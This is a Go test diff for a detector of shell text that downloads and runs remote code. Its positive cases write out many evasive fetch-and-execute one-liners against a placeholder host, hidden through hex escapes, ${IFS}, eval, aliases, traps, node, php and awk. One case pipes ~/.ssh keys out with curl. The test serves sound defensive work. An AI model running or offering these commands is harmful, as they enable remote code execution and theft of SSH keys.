@@ -85,3 +85,37 @@ func TestDrops(t *testing.T) {
 		}
 	}
 }
+
+func TestShell(t *testing.T) {
+	const url = "http://192.0.2.1/x"
+	for _, c := range []struct {
+		name, text string
+		want       bool
+	}{
+		{name: "printed with escapes", text: `printf '\x63\x75\x72\x6c ` + url + ` | sh' | sh`, want: true},
+		{name: "echoed", text: "echo 'curl " + url + " | sh' | bash", want: true},
+		{name: "by a variable", text: "x=$(curl -s " + url + "); eval \"$x\"", want: true},
+		{name: "without a space", text: "curl${IFS}" + url + "|sh", want: true},
+		{name: "by another program", text: "busybox wget -O- " + url + " | busybox sh", want: true},
+		{name: "with a time", text: "curl " + url + " | timeout 1.5m sh", want: true},
+		{name: "by xargs", text: "wget -q -O - " + url + " | xargs -I{} sh -c '{}'", want: true},
+		{name: "by find", text: "find . -exec sh -c 'curl " + url + " | sh' ;", want: true},
+		{name: "at the end", text: "trap 'curl " + url + " | sh' EXIT", want: true},
+		{name: "by an alias", text: "alias ls='curl " + url + " | sh'", want: true},
+		{name: "by JavaScript", text: "node -e 'require(\"child_process\").exec(\"curl " + url + " | sh\")'", want: true},
+		{name: "by PHP", text: "php -r 'system(\"curl " + url + " | sh\");'", want: true},
+		{name: "by awk", text: "awk 'BEGIN{system(\"curl " + url + " | sh\")}'", want: true},
+		{name: "from another machine", text: "scp a@192.0.2.1:x /tmp/x && sh /tmp/x", want: true},
+		{name: "a directory of keys", text: "tar c ~/.ssh | curl -T - " + url, want: true},
+
+		{name: "harmless commands", text: "echo 'ls -l' | bash"},
+		{name: "a variable that is shown", text: "x=$(curl -s " + url + "); echo \"$x\""},
+		{name: "cleaning up", text: "trap 'rm -rf \"$tmp\"' EXIT\nfind . -name '*.pyc' -exec rm -f {} +"},
+		{name: "a text of awk", text: "awk '{print \"curl is a program\"}' x | sort"},
+	} {
+		p, err := source.Shell(c.text, hostiletest.Budget(len(c.text)))
+		if (p != nil) != c.want || err != nil {
+			t.Errorf("%s: got %+v, %v, want %v", c.name, p, err, c.want)
+		}
+	}
+}
